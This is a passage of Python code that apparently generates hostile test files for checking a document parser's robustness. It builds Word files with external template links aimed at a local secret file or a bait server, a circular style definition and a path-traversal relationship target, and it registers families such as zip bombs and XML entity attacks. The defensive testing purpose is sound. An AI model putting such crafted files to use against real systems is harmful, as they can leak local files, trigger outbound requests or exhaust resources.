    yield "span.docx", docx(document(f"{cell}{span}<w:p/></w:tc></w:tr></w:tbl>"))
    for name, target in (("file", f"file://{bait.secret}"), ("fetch", f"{bait.server}/w")):
        linked = (
            f'<Relationship Id="r9" TargetMode="External" Target="{target}" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        )
        yield f"linked-{name}.docx", archive(docx_members(None, linked))
    round_style = (
        f'<w:styles {W}><w:style w:styleId="a"><w:basedOn w:val="a"/></w:style></w:styles>'
    )
    yield "style.docx", archive([*docx_members(), packed("word/styles.xml", round_style)])
    yield "no-main.docx", archive(docx_members()[:2])
    yield "only-types.docx", archive(docx_members()[:1])
    dots = docx_members(None, '<Relationship Id="r9" Type="t" Target="../../../../a.xml"/>')
    yield "dots.docx", archive(dots)


Family = Callable[[Bait], Named]

FAMILIES: dict[str, Family] = {
    family.__name__: family
    for family in (
        *(zip_bombs, zip_nesting, zip_overlaps, zip_names, xml_entities, xml_inclusion),
        *(json_nesting, json_values, jsonl_lines, warc_lies, warc_bombs),
        *(pdf_streams, pdf_loops, pdf_structures, html_depth, html_width, patterns, charsets),
        *(truncated, damaged, wrong_suffixes, nothing, noise, dates, mails, tables, feeds),
        *(epub_structures, word_structures),
    )
}
"""Every family of files by name; those that are no plain files are made elsewhere."""
